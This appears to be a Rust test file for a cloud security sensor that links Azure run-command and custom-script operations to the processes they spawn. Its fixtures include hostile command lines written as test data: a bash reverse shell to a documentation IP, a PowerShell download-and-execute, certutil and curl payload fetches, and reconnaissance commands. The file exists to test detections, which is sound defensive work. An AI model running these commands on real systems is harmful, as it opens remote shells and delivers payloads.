//! Sections 19 to 21.

use super::{ACTION, Sensor, json};

const CORRELATION: &str = "run-command-process-correlation";
const CHILD: &str = "script-child-process";
const DESCENDANT: &str = "custom-script-descendant";

fn child_at(sensor: Sensor, time: &str, pid: u32) -> Sensor {
    sensor.process(&format!(
        "{time} vm1 {pid}<400 ipconfig.exe | ipconfig /all | powershell.exe | {ACTION}"
    ))
}

fn with(operations: &str, times: &[&str]) -> Sensor {
    let mut sensor = Sensor::default().cloud(operations);
    for (at, time) in times.iter().enumerate() {
        sensor = child_at(sensor, time, 500 + u32::try_from(at).expect("few"));
    }
    sensor
}

#[test]
fn processes_of_an_operation() {
    let counted = |operations: &str, times: &[&str], published: &str| {
        let sensor =
            with(operations, times).set("run-command-process-correlation.published", published);
        sensor.says(CORRELATION, "count")
    };
    let near = "2024-05-01T10:01:50 run alice 52.1.2.3 vm1 end=+30";
    assert_eq!(counted(near, &["10:01:58"], "no"), [("medium", json!(1))]);
    assert_eq!(counted(near, &["10:01:58"], "yes"), [("medium", json!(1))]);
    // On both sides of a fixed bin.
    let split = "2024-05-01T10:01:59 run alice 52.1.2.3 vm1 end=+30";
    assert_eq!(counted(split, &["10:02:01"], "no"), [("medium", json!(1))]);
    assert!(
        counted(
            "2024-05-01T10:01:59 run alice 52.1.2.3 vm1 status=Started",
            &["10:02:01"],
            "yes"
        )
        .is_empty()
    );
    // An earlier command's child in the same bin hides a later pair from the published rule.
    let later = "2024-05-01T10:01:00 run alice 52.1.2.3 vm1 end=+30";
    assert_eq!(
        counted(later, &["10:00:05", "10:01:20"], "no"),
        [("medium", json!(1))]
    );
    assert!(counted(later, &["10:00:05", "10:01:20"], "yes").is_empty());
}

#[test]
fn bounds_of_the_correlation() {
    let found = |operations: &str, time: &str| with(operations, &[time]).finds(CORRELATION).len();
    let open = "2024-05-01T10:00:00 run alice 52.1.2.3 vm1 status=Started";
    assert_eq!((found(open, "10:02:00"), found(open, "10:02:01")), (1, 0));
    assert_eq!((found(open, "09:59:55"), found(open, "09:59:54")), (1, 0));
    let closed = "2024-05-01T10:00:00 run alice 52.1.2.3 vm1 end=+200";
    assert_eq!(
        (found(closed, "10:03:50"), found(closed, "10:03:51")),
        (1, 0)
    );
    // Managed commands too; another VM never.
    assert_eq!(
        found(
            "2024-05-01T10:00:00 write:rc1 alice 52.1.2.3 vm1 end=+30",
            "10:00:10"
        ),
        1
    );
    assert_eq!(
        found(
            "2024-05-01T10:00:00 run alice 52.1.2.3 vm2 end=+30",
            "10:00:10"
        ),
        0
    );
}

#[test]
fn the_latest_command_before_a_process_has_it() {
    let sensor = with(
        "2024-05-01T10:00:00 run alice 52.1.2.3 vm1 end=+100
         2024-05-01T10:01:00 run bob 52.1.2.9 vm1 end=+100",
        &["10:00:30", "10:01:10"],
    );
    let found = sensor.finds(CORRELATION);
    let of: Vec<_> = found
        .iter()
        .map(|one| (one.operations.clone(), one.values["count"].as_u64()))
        .collect();
    assert_eq!(of, [(vec![0], Some(1)), (vec![1], Some(1))]);
    assert_eq!(found[0].values["network"], "52.1.0.0/16");
    assert_eq!(found[0].values["commands"], json!(["ipconfig /all"]));
}

#[test]
fn a_notable_child_raises_and_a_console_host_counts_nothing() {
    let sensor = Sensor::default()
        .cloud("2024-05-01T10:00:00 run alice 52.1.2.3 vm1 end=+30")
        .process(&format!(
            "10:00:05 vm1 400<300 powershell.exe | {ACTION} | cmd.exe | cmd /c x"
        ))
        .process(&format!(
            "10:00:05 vm1 401<400 conhost.exe | conhost 0x4 | powershell.exe | {ACTION}"
        ));
    assert_eq!(sensor.says(CORRELATION, "count"), [("medium", json!(1))]);
    let with_whoami = sensor.process(&format!(
        "10:00:06 vm1 402<400 whoami.exe | whoami /all | powershell.exe | {ACTION}"
    ));
    assert_eq!(
        with_whoami.says(CORRELATION, "notable"),
        [("high", json!(["whoami"]))]
    );
}

#[test]
fn without_processes_nothing_can_be_said() {
    let table = Sensor::default()
        .cloud("2024-05-01T10:00:00 run alice 52.1.2.3 vm1 end=+30")
        .cloud;
    for detector in [CORRELATION, CHILD, DESCENDANT] {
        assert_eq!(
            table.searched(detector),
            (
                false,
                Some("not-assessed: no process starts are loaded".to_owned())
            )
        );
    }
}

fn children(parent: (&str, &str), below: &[(&str, &str)]) -> Sensor {
    let mut sensor = Sensor::default();
    for (at, (image, line)) in below.iter().enumerate() {
        sensor = sensor.process(&format!(
            "10:00:{at:02} vm1 {}<400 {image} | {line} | {} | {}",
            500 + at,
            parent.0,
            parent.1
        ));
    }
    sensor
}

#[test]
fn children_of_scripts() {
    let action = ("powershell.exe", ACTION);
    assert_eq!(
        children(action, &[("ipconfig.exe", "ipconfig")]).says(CHILD, "notable"),
        [("info", json!(0))]
    );
    let one = children(
        action,
        &[("ipconfig.exe", "ipconfig"), ("whoami.exe", "whoami")],
    );
    assert_eq!(one.says(CHILD, "notable"), [("low", json!(1))]);
    let two = children(action, &[("net.exe", "net view"), ("whoami.exe", "whoami")]);
    assert_eq!(two.says(CHILD, "notable"), [("low", json!(2))]);
    let three = children(
        action,
        &[
            ("whoami.exe", "whoami"),
            ("net.exe", "net view"),
            ("nltest.exe", "nltest /x"),
        ],
    );
    assert_eq!(three.says(CHILD, "notable"), [("medium", json!(3))]);
    let linux = (
        "bash",
        "/bin/bash /var/lib/waagent/run-command/download/12/script.sh",
    );
    let reverse = children(linux, &[("bash", "bash -i >& /dev/tcp/192.0.2.5/4444")]);
    assert_eq!(reverse.says(CHILD, "weight"), [("high", json!(9))]);
    assert!(
        children(
            ("powershell.exe", r"powershell -File C:\it\script1.ps1"),
            &[("whoami.exe", "whoami")]
        )
        .finds(CHILD)
        .is_empty()
    );
    // A file that is looked at has no children of a script.
    let looked = (
        "less",
        "less /var/lib/waagent/run-command/download/12/script.sh",
    );
    assert!(children(looked, &[("vi", "vi x")]).finds(CHILD).is_empty());
}

#[test]
fn the_shell_of_a_script_is_no_child_of_it() {
    let script = "/var/lib/waagent/run-command-handler/download/rc1/0/script.sh";
    let sensor = Sensor::default()
        .process(&format!("10:00:01 vm1 401<400 sh | /bin/sh -c {script} | run-command-handler | handler"))
        .process(&format!("10:00:01 vm1 402<401 bash | /bin/bash {script} | sh | /bin/sh -c {script}"))
        .process(&format!("10:00:02 vm1 403<402 curl | curl http://192.0.2.1/x -o /tmp/x | bash | /bin/bash {script}"));
    let found = sensor.finds(CHILD);
    assert_eq!((found.len(), &found[0].values["count"]), (1, &json!(1)));
    assert_eq!(found[0].values["script"], script);
    // The published rule knows the action's folder only, and takes the shell for a child.
    let published = sensor.set("script-child-process.published", "yes");
    assert!(published.finds(CHILD).is_empty());
    let action = "/var/lib/waagent/run-command/download/3/script.sh";
    let wrapped = Sensor::default().process(&format!(
        "10:00:01 vm1 402<401 bash | /bin/bash {action} | sh | /bin/sh -c {action}"
    ));
    assert!(wrapped.finds(CHILD).is_empty());
    assert_eq!(
        wrapped
            .set("script-child-process.published", "yes")
            .severities_of(CHILD),
        ["medium"]
    );
}

fn below_handler(time: &str, image: &str, line: &str) -> Sensor {
    Sensor::default()
        .process(r#"10:00:00 vm1 100<90 CustomScriptHandler.exe | "C:\x\CustomScriptHandler.exe" enable | WindowsAzureGuestAgent.exe | x"#)
        .process("10:00:01 vm1 101<100 cmd.exe | cmd /c setup.cmd | CustomScriptHandler.exe | x")
        .process(&format!("{time} vm1 102<101 {image} | {line} | cmd.exe | cmd /c setup.cmd"))
}

#[test]
fn descendants_of_the_custom_script_handler() {
    let found = |time: &str, image: &str, line: &str| {
        below_handler(time, image, line).says(DESCENDANT, "count")
    };
    assert_eq!(
        found("10:01:00", "net.exe", "net user"),
        [("medium", json!(1))]
    );
    assert!(found("10:01:01", "net.exe", "net user").is_empty());
    assert!(found("10:00:05", "powershell.exe", "powershell -File setup.ps1").is_empty());
    assert_eq!(
        found(
            "10:00:05",
            "powershell.exe",
            "powershell -nop -c IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
        )
        .len(),
        1
    );
    assert_eq!(
        found(
            "10:00:05",
            "certutil.exe",
            "certutil -urlcache -f http://192.0.2.1/a a"
        )
        .len(),
        1
    );
    assert!(found("10:00:05", "certutil.exe", "certutil -store my").is_empty());
    let longer = below_handler("10:01:01", "net.exe", "net user")
        .set("custom-script-descendant.window_seconds", "61");
    assert_eq!(longer.finds(DESCENDANT).len(), 1);
    // The same under another handler is not its business.
    let other = Sensor::default()
        .process("10:00:00 vm1 100<90 other.exe | other.exe | x | x")
        .process("10:00:05 vm1 101<100 net.exe | net user | other.exe | other.exe");
    assert!(other.finds(DESCENDANT).is_empty());
}
